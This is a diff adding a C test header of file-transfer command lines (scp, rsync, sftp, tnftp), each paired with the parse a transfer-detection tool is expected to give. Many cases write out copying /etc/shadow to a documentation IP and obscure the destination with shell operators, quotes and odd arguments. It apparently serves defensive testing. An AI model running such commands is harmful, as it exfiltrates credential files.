@@ -1,0 +1,97 @@
+/*
+ * transfer_commands.h
+ *		Commands as events have them: an executable, perhaps arguments, and a line
+ *		that is those arguments with blanks between them.  Many are written so that
+ *		a reader of lines misses where the files go.
+ */
+#ifndef TEST_TRANSFER_COMMANDS_H
+#define TEST_TRANSFER_COMMANDS_H
+
+typedef struct TransferCase
+{
+	const char *executable;
+	const char *args[10];
+	const char *line;
+	const char *meaning;
+} TransferCase;
+
+static const TransferCase transfer_cases[] = {
+	/* an operator of the shell that is an argument */
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow ; 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . | not understood ; 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow | 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) | (data) | host 203.0.113.9 | remote . | not understood | 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow & 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) & (data) | host 203.0.113.9 | remote . | not understood & 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow && 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) && (data) | host 203.0.113.9 | remote . | not understood && 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow > 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) > (data) | host 203.0.113.9 | remote . | not understood > 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp -i ; /etc/shadow 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) | host 203.0.113.9 | remote . | options identity=; | not understood ; /etc/shadow 203.0.113.9:"},
+	{NULL, {NULL}, "scp /etc/shadow ; 203.0.113.9:",
+		"scp: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . | not understood ; 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas: ; 203.0.113.9:",
+		"scp: client between, unknown | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . | options source=nas: | not understood ; 203.0.113.9:"},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas:; 203.0.113.9:",
+		"scp: client between, unknown | local /etc/shadow (secret) | host 203.0.113.9 | remote . | options source=nas:; | not understood ; 203.0.113.9:"},
+	{"/usr/bin/rsync", {NULL}, "rsync -a /etc/shadow ; 203.0.113.9:/x",
+		"rsync: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote /x | options recursive | not understood ; 203.0.113.9:/x"},
+	{"/usr/bin/sftp", {NULL}, "sftp -i ; 203.0.113.9",
+		"sftp: client, unknown | host 203.0.113.9 | options identity=; | not understood ; 203.0.113.9"},
+	/* but one of a shell ends the command */
+	{"/usr/bin/scp", {NULL}, "scp f h:&& echo x",
+		"scp: client out, out | local f (data) | host h | remote . | not understood && echo x"},
+	{"/usr/bin/scp", {NULL}, "scp f h: && echo x",
+		"scp: client out, out | local f (data) | host h | remote . | not understood && echo x"},
+	{"/usr/bin/scp", {NULL}, "scp f h:; rm f",
+		"scp: client out, out | local f (data) | host h | remote . | not understood ; rm f"},
+	{"/usr/bin/scp", {NULL}, "scp f h: 2>/dev/null",
+		"scp: client out, out | local f (data) | host h | remote . | not understood 2>/dev/null"},
+	{"/usr/bin/scp", {NULL}, "scp f h:>/dev/null 2>&1",
+		"scp: client out, out | local f (data) | host h | remote . | not understood >/dev/null 2>&1"},
+	{NULL, {NULL}, "scp a one: && scp b two:",
+		"scp: client out, out | local a (data) | host one | remote . | not understood && scp b two:"},
+	{NULL, {NULL}, "scp a b; rm a",
+		"scp: local, unknown | local a (data) b (data) | not understood ; rm a"},
+	{"/usr/bin/tnftp", {NULL}, "tnftp -o x ftp://h/a;type=i",
+		"ftp: client in, in | local x (data) | host h | remote a"},
+	{"/usr/bin/tnftp", {NULL}, "tnftp http://h/a?b=1&c=2",
+		"ftp: client in, in | host h | remote a?b=1&c=2"},
+	/* a quote that is an argument */
+	{"/usr/bin/scp", {NULL}, "scp ' f 203.0.113.9:'",
+		"scp: client out, out | local ' (data) f (data) | host 203.0.113.9 | remote ' | not understood ' f 203.0.113.9:'"},
+	{"/usr/bin/scp", {NULL}, "scp \" f 203.0.113.9:\"",
+		"scp: client out, out | local \" (data) f (data) | host 203.0.113.9 | remote \" | not understood \" f 203.0.113.9:\""},
+	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas:' ' 203.0.113.9:",
+		"scp: client between, unknown | local /etc/shadow (secret) | host 203.0.113.9 | remote . | options source=nas: "},
+	{"/usr/bin/scp", {NULL}, "scp '/srv/my notes' h:",
+		"scp: client out, out | local /srv/my notes (data) | host h | remote ."},
+	{"/usr/bin/rsync", {NULL}, "rsync -a --exclude 'x y:z' /a /b",
+		"rsync: local, unknown | local /a (data) /b (data) | options recursive"},
+	{"/usr/bin/scp", {NULL}, "scp -o \"ProxyCommand=nc -x localhost:9050 %h %p\" h:f .",
+		"scp: client in, in | local . (data) | host h | remote f | options proxy_command=nc -x localhost:9050 %h %p"},
+	/* arguments that do not fit the line */
+	{"/usr/bin/scp", {"scp f 203.0.113.9:"}, "scp f 203.0.113.9:",
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{"/usr/bin/scp", {"scp f 203.0.113.9:"}, NULL,
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{NULL, {"scp f 203.0.113.9:"}, "scp f 203.0.113.9:",
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{"/usr/bin/scp", {"scp"}, "scp f 203.0.113.9:",
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{NULL, {"f", "203.0.113.9:"}, "scp f 203.0.113.9:",
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{"/usr/bin/scp", {"f", "203.0.113.9:"}, "scp f 203.0.113.9:",
+		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
+	{"/usr/bin/sftp", {"sftp"}, "sftp 203.0.113.9",
+		"sftp: client, unknown | host 203.0.113.9"},
+	{"/usr/bin/scp", {"scp", "a b", "h:"}, "scp a b h:",
+		"scp: client out, out | local a b (data) | host h | remote ."},
+	{"/usr/bin/scp", {"scp", "a", "b"}, "scp a b:",
+		"scp: local, unknown | local a (data) b (data)"}
+};
+
+#define TRANSFER_CASES (sizeof(transfer_cases) / sizeof(transfer_cases[0]))
+
+#endif							/* TEST_TRANSFER_COMMANDS_H */
